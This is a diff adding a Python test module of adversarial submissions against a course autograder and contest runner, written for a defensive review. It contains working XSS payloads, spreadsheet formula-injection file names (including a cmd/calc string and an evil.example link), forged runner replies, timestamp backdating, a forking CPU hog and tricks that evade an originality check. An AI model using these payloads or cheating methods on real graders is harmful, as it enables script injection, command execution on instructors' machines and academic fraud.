@@ -1,0 +1,330 @@
+"""Dishonest submissions found in an adversarial review of the grader, in the shapes of :mod:`attacks`.
+
+Every one deserves 0 of the automatic points and must harm nothing: no other
+student's grade or files, no course file, no process left, no grader blamed
+for the student's fault, no batch of grading stopped, nothing a spreadsheet
+runs as a formula.  Each was tried on a kept round-trip course (or on the
+trusted runner directly); the review's report says which ones worked, and
+why.  None of them is in :mod:`attacks` (those are already defended).
+
+:data:`ATTACKS` are notebooks (``{name: (kind, assignments, placements)}``,
+placements as in :func:`attacks.attack_notebook`); :data:`PLANTS` are hand-ins
+that put something beside the notebook in ``submitted/<student>/<assignment>/``
+(``{name: plant(course, folder)}``).  :data:`CONTEST` are contest entries
+(``{name: {file name: source}}``) for a folder of submissions of
+``advsearch contest``.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import sys
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from attacks import ROOT  # noqa: E402,F401  (the course root seen from the kernel; kept for symmetry)
+
+#: The runner (``runner.py``) is the ``__main__`` module of the trusted re-run: a cell that rebinds its
+#: ``pack`` chooses every byte of every answer the referee reads back, past what ``pack`` itself ever sends.
+_FORGE = '''
+import sys
+_runner = sys.modules["__main__"]
+_runner.pack = lambda x, depth=0: {FORGED}
+'''
+
+
+def _forge(forged: str) -> str:
+    return _FORGE.replace("{FORGED}", forged)
+
+
+#: name -> (kind, assignments, {placement: source}), as attacks.ATTACKS.
+ATTACKS = {
+    # ---------------------------------------------------------- blame: the referee's unpacking trusts the shape
+    # A value of the protocol whose tag holds the wrong shape: unpack_answer raises TypeError/ValueError, which
+    # Runner.value passes on as it is; TrustedGrades._run_test takes it for a bug of ours ("the grader failed").
+    "forged_reply_not_a_list": ("blame", ("ps1", "ps3", "ps4"), {
+        "first": _forge('{"list": 5}'),
+        "answer:q1_answer": "values_answer = {'A': 1}",
+        "answer:q1_answer@ps4": "maxn_values = {'A': (1, 2, 3)}\nmaxn_move = 'B'"}),
+    "forged_reply_bad_pair": ("blame", ("ps1",), {
+        "first": _forge('{"dict": [[1, 2, 3]]}'), "answer:q1_answer": "values_answer = {'A': 1}"}),
+    "forged_reply_bad_float": ("blame", ("ps1",), {
+        "first": _forge('{"float": "not a number"}'), "answer:q1_answer": "values_answer = {'A': 1}"}),
+    "forged_reply_bad_state": ("blame", ("ps1",), {
+        "first": _forge('{"state": "not a handle"}'), "answer:q1_answer": "values_answer = {'A': 1}"}),
+    # The same, asked for STUDENT_ID: TrustedGrades._declared catches only the referee's own errors, so the
+    # TypeError ends TrustedGrades.preprocess, and nbgrader fails the whole notebook ("not graded").
+    "forged_reply_student_id": ("blame", ("ps1", "ps3", "ps4"), {
+        "first": _forge('{"list": 5}') + "STUDENT_ID = 'anyone'\n"}),
+    # Nested past the recursion limit: json.loads fails first (a ProtocolError, the student's fault).  Defended.
+    "forged_reply_deep": ("blame", ("ps1",), {"first": '''
+import json
+_dumps = json.dumps
+def _deep(message, **kw):
+    if isinstance(message, dict) and "done" in message and message["done"] is not None:
+        return '{"done": ' + '{"list": [' * 480 + '1' + ']}' * 480 + '}'
+    return _dumps(message, **kw)
+json.dumps = _deep
+''', "answer:q1_answer": "values_answer = {'A': 1}"}),
+    # A game call whose argument has the wrong shape: Runner._answer catches only ProtocolError while
+    # unpacking it; the TypeError leaves Runner.call.  (Inside assess_search's call() it becomes the
+    # student's 0, so this one is defended for the graded functions.)
+    "forged_ask": ("blame", ("ps1",), {"answer:q3_answer": '''
+import sys, gc
+def minimax(game, state):
+    channel = game._channel
+    channel.send({"ask": "actions", "game": game._id, "args": [{"list": 5}]})
+    return channel.receive()'''}),
+    # ---------------------------------------------------------- scoring: blind by-hand answers
+    # One fixed answer for every student, written without looking at the tree: paths into the second
+    # child.  assess_pruned pays J - 1/2 of the Jaccard overlap and the other conventions' credit, with no
+    # blind baseline (the values have one, since faca72b): on 200 seeded students it earns 0.39 of 2 points
+    # on average, something for 49% of them, 1.0 for 27%.
+    "blind_pruned_paths": ("scoring hole", ("ps1",), {"answer:q2_answer": "pruned_answer = [[1, 1], [1, 2]]"}),
+    "blind_pruned_subtree": ("scoring hole", ("ps1",), {"answer:q2_answer": "pruned_answer = [[1, 1]]"}),
+    # A by-hand answer of another type than asked: a str, an int, a dict, nested lists.
+    "pruned_odd_types": ("scoring hole", ("ps1",), {"answer:q2_answer": "pruned_answer = 'c3 d2 d3'"}),
+    # ---------------------------------------------------------- ps2: the package's own evaluation
+    # ps2's sandbox has the package, and its four tests grade manners and matches only: connect4_eval, the
+    # reference opponent's evaluation, earns them (advsearch/grading/originality.py, which would refuse it, is
+    # not called by problemsets.py).  A monotone rescaling of it, or of a single feature, plays the same games.
+    "borrow_connect4_eval": ("borrowing", ("ps2",), {"answer:evaluate_answer": '''
+from advsearch.evaluation import connect4_eval
+evaluate = connect4_eval(game)'''}),
+    "borrow_connect4_eval_squashed": ("borrowing", ("ps2",), {"answer:evaluate_answer": '''
+import math
+from advsearch.evaluation import connect4_eval
+_reference = connect4_eval(game)
+def evaluate(state, player):
+    return math.tanh(2 * _reference(state, player)) * 0.999'''}),
+    # The originality check (grading/originality.py, wired in problemsets._not_own) asks first, for MAX, on
+    # 150 positions in a row; the sandbox's process keeps state between calls, so an evaluation can count
+    # its calls and be "its own" (connect4_eval with a third of the positions made up: between KNOWS and
+    # SAME_ORDER) for those 150, and the reference evaluation in the manners test and the matches.
+    "originality_call_count": ("borrowing", ("ps2",), {"answer:evaluate_answer": '''
+import hashlib
+from advsearch.evaluation import connect4_eval
+_reference = connect4_eval(game)
+_calls = [0]
+def evaluate(state, player):
+    _calls[0] += 1
+    if _calls[0] <= 150:
+        h = int(hashlib.sha256(repr(state).encode()).hexdigest()[:8], 16) / 2 ** 32
+        v = _reference(state, MAX)
+        if h < 0.3:
+            v = (h / 0.3 - 0.5) * 0.4
+        return v if player == MAX else -v
+    return _reference(state, player)'''}),
+    # ---------------------------------------------------------- the runner: more than the standard library
+    # The interpreter's own lib/ is bound, and with it ensurepip's bundled wheels: pip and setuptools (with
+    # their vendored packages) import from a zip.  Not advsearch, so nothing to borrow.  Harmless.
+    "bundled_wheels": ("standard library only", ("ps1",), {"answer:q4_answer": '''
+import glob, sys, sysconfig
+for wheel in glob.glob(sysconfig.get_paths()["stdlib"] + "/ensurepip/_bundled/*.whl"):
+    sys.path.insert(0, wheel)
+try:
+    import pip._vendor.rich, setuptools
+    _found = "pip and setuptools"
+except Exception as e:
+    _found = repr(e)
+def alphabeta(game, state):
+    raise RuntimeError("found " + _found)'''}),
+    # ---------------------------------------------------------- the random state handed to the runner
+    # Every call sends the trusted process's global random state; the student's code may read it and keep it.
+    # Knowing the trusted MT state earns nothing here (the trees come from the HMAC of the course key).
+    "read_grader_random": ("isolation", ("ps1",), {"answer:q3_answer": '''
+import random
+_seen = []
+def minimax(game, state):
+    _seen.append(random.getstate()[1][:4])
+    return 0'''}),
+    # ---------------------------------------------------------- HTML the student's kernel writes
+    # The kernel's rich outputs are kept in the autograded notebook (LimitOutput caps their size only), and
+    # nbconvert's HTMLExporter does not sanitize (sanitize_html=False): generate_feedback's page, and the
+    # formgrader's view of the submission on the instructor's Jupyter server, carry the student's script.
+    "html_script_output": ("html", ("ps1", "ps3", "ps4"), {"last": '''
+from IPython.display import HTML, Javascript, display
+display(HTML('<script>document.title = "advsearch-xss-html"</script><img src=x onerror="window.advsearchXss=1">'))
+display(Javascript('document.title = "advsearch-xss-js"'))
+display({"text/html": "<iframe srcdoc=\'<script>parent.advsearchXss=2</script>\'></iframe>"}, raw=True)
+'''}),
+    # ---------------------------------------------------------- output past the caps
+    # nbclient applies update_display_data (and a display_data whose display_id it knows) through
+    # _update_display_id, not through output(): SandboxedExecute.output never counts it.  Every output that
+    # shares the display id gets the new data, so 200 small displays and one 100 kB update write 20 MB into
+    # the autograded notebook (n displays times m bytes: the caps allow thousands of displays).
+    "display_update_flood": ("after the kernel", ("ps1",), {"last": '''
+from IPython.display import display, update_display
+for _ in range(200):
+    display({"text/plain": "."}, raw=True, display_id="flood")
+update_display({"text/plain": "x" * 100_000}, raw=True, display_id="flood")
+'''}),
+    # ---------------------------------------------------------- nbgrader's own checks stop the whole batch
+    # nbgrader's convert_notebooks re-raises SchemaTooNewError/SchemaTooOldError as NbGraderException, which
+    # ends `nbgrader autograde ps1` for every student after this one (see PLANTS-free placement below:
+    # set by metadata_schema_bomb in NOTEBOOK_EDITS).
+}
+
+
+def _schema_bomb(nb):
+    """A student cell whose nbgrader metadata claims a newer schema: nbgrader stops the whole autograde run."""
+    import nbformat
+    cell = nbformat.v4.new_code_cell("x = 1")
+    cell.metadata["nbgrader"] = {"grade_id": "my_notes", "schema_version": 99, "grade": False, "solution": False,
+                                 "locked": False}
+    nb.cells.append(cell)
+    return nb
+
+
+def _schema_old(nb):
+    """The same with schema version 0 (SchemaTooOldError)."""
+    import nbformat
+    cell = nbformat.v4.new_code_cell("y = 2")
+    cell.metadata["nbgrader"] = {"grade_id": "my_notes_old", "schema_version": 0}
+    nb.cells.append(cell)
+    return nb
+
+
+def _answer_cell_schema(nb):
+    """The answer cell itself (its grade id kept, so KeepFirstIds and OverwriteCells keep the metadata)."""
+    for cell in nb.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("grade_id") == "q1_answer":
+            meta["schema_version"] = 4
+    return nb
+
+
+def _markdown_script(nb):
+    """A Markdown cell of the student's with raw HTML: nbconvert renders it as it is (no sanitizing)."""
+    import nbformat
+    nb.cells.append(nbformat.v4.new_markdown_cell(
+        'My notes <script>document.title="advsearch-xss-md"</script><img src=x onerror="window.advsearchXss=3">'))
+    return nb
+
+
+def _graded_markdown_script(nb):
+    """The manually graded answer (a Markdown cell the instructor reads in the formgrader) with a script."""
+    for cell in nb.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if cell.cell_type == "markdown" and meta.get("solution"):
+            cell.source = 'See <img src=x onerror="window.advsearchXss=4"><script>document.title="x"</script>'
+    return nb
+
+
+def _answer_made_grade(nb):
+    """The answer cell marked as graded with 100 points of its own (nbgrader's OverwriteCells looks it up)."""
+    for cell in nb.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("grade_id") == "q1_answer":
+            meta.update(grade=True, points=100)
+    return nb
+
+
+#: name -> (kind, assignments, edit(notebook) -> notebook): edits of the released notebook's JSON that the
+#: placements of :data:`ATTACKS` cannot express (cell metadata).
+NOTEBOOK_EDITS = {
+    "metadata_schema_bomb": ("stops the batch", ("ps1", "ps3", "ps4"), _schema_bomb),
+    "metadata_schema_old": ("stops the batch", ("ps1",), _schema_old),
+    "metadata_answer_schema": ("stops the batch", ("ps1",), _answer_cell_schema),
+    "answer_made_grade": ("blame", ("ps1",), _answer_made_grade),
+    "markdown_script": ("html", ("ps1", "ps3", "ps4"), _markdown_script),
+    "graded_markdown_script": ("html", ("ps1", "ps3", "ps4"), _graded_markdown_script),
+}
+
+
+def _write(name, text):
+    def plant(course, folder):
+        with open(os.path.join(folder, name), "w", encoding="utf-8") as f:
+            f.write(text)
+    return plant
+
+
+def _extra_notebook(name):
+    """A copy of the hand-in under a name a spreadsheet reads as a formula (grades.csv's reason starts with it)."""
+    def plant(course, folder):
+        nb = os.path.join(folder, os.path.basename(folder) + ".ipynb")
+        with open(nb, encoding="utf-8") as f:
+            text = f.read()
+        with open(os.path.join(folder, name), "w", encoding="utf-8") as f:
+            f.write(text)
+    return plant
+
+
+def _claims_record(course, folder):
+    """The hand-in carries an advsearch record of full marks (only the grader writes one)."""
+    nb = os.path.join(folder, os.path.basename(folder) + ".ipynb")
+    with open(nb, encoding="utf-8") as f:
+        data = json.load(f)
+    data.setdefault("metadata", {})["advsearch"] = {"graded_as": os.path.basename(os.path.dirname(folder)),
+                                                    "tests": {"q1_test": {"points": 4.0, "out_of": 4.0}},
+                                                    "flags": [], "grader": "advsearch.autograde"}
+    with open(nb, "w", encoding="utf-8") as f:
+        json.dump(data, f)
+
+
+#: Hand-ins planted beside the notebook, as attacks.PLANTS.
+PLANTS = {
+    # nbgrader reads submitted/<student>/<assignment>/timestamp.txt as the submission time: a hand-in (or an
+    # inbound folder of the exchange, which SafeCollect copies as it is) dated before the due date escapes
+    # the late penalty.
+    "plant_backdated_timestamp": _write("timestamp.txt", "2000-01-01 00:00:00.000000 UTC\n"),
+    # An unreadable time stamp: CourseDirectory.get_existing_timestamp calls self.fail, which CourseDirectory
+    # does not have (AttributeError): that submission fails in nbgrader (not graded, nbgrader blamed).
+    "plant_bad_timestamp": _write("timestamp.txt", "the day before the deadline\n"),
+    "plant_huge_timestamp": _write("timestamp.txt", "2000-01-01 00:00:00 UTC" + " " * (4 << 20) + "\n"),
+    # Notebook names that a spreadsheet runs: report.py joins "<notebook>: <reason>" for a student with
+    # several notebooks, and FlaggedCsvExport writes it unescaped as grades.csv's reason.
+    "plant_formula_notebook": _extra_notebook("=HYPERLINK(\"http:evil.example\",\"click\").ipynb"),
+    "plant_formula_notebook_at": _extra_notebook("@SUM(1+1)*cmd|' \\C calc'!A0.ipynb"),
+    "plant_formula_notebook_plus": _extra_notebook("+1+1.ipynb"),
+    # A notebook name with a line break and an escape code: the report's table repeats it.
+    "plant_newline_notebook": _extra_notebook("x\n\x1b[2Jstudent ps1 graded.ipynb"),
+    # The hand-in claims the grader's record.
+    "plant_claims_record": _claims_record,
+    # A hidden notebook and a sub-folder of notebooks beside the hand-in.
+    "plant_hidden_notebook": _extra_notebook(".ps1.ipynb"),
+}
+
+
+#: Contest entries: name -> {file name in the submissions folder: source}.  Each must lose its own games
+#: (or be left out) and harm no other entrant, no record and no table.
+CONTEST = {
+    # The move comes back with a forged shape: Seat.move catches RunnerDied, RemoteError, ProtocolError,
+    # but unpack_answer's TypeError leaves play_game, and `advsearch contest` stops ("the referee failed").
+    "contest_forged_move": {"mallory.py": '''
+import sys
+def agent(game, state):
+    sys.modules["__main__"].pack = lambda x, depth=0: {"list": 5}
+    return game.actions(state)[0]
+'''},
+    # The same while the contest checks that the agent loads (defines_agent asks for "agent").
+    "contest_forged_load": {"mallory.py": '''
+import sys
+sys.modules["__main__"].pack = lambda x, depth=0: {"dict": 5}
+def agent(game, state):
+    return game.actions(state)[0]
+'''},
+    # Names a spreadsheet runs: leaderboard.csv, crosstable.csv and forfeits.csv repeat them unescaped
+    # (the HTML page escapes them).
+    "contest_formula_names": {
+        '=HYPERLINK("http:evil.example","x").py': "def agent(game, state):\n    raise ValueError('boom')\n",
+        "@SUM(1+1)*cmd|' \\C calc'!A0.py": "def agent(game, state):\n    return game.actions(state)[-1]\n"},
+    # CPU-bound children left running while the opponent thinks (the time per move is wall time).  Fails
+    # here: each sandbox is a session of its own (--new-session), so the kernel's autogroup scheduling gives
+    # it one share of the CPU; a host with kernel.sched_autogroup_enabled=0 has no such defence.
+    "contest_cpu_hog": {"mallory.py": '''
+import os
+_started = []
+def agent(game, state):
+    if not _started:
+        _started.append(1)
+        for _ in range(14):
+            try:
+                if os.fork() == 0:
+                    while True:
+                        pass
+            except OSError:
+                break
+    return game.actions(state)[0]
+'''},
+}
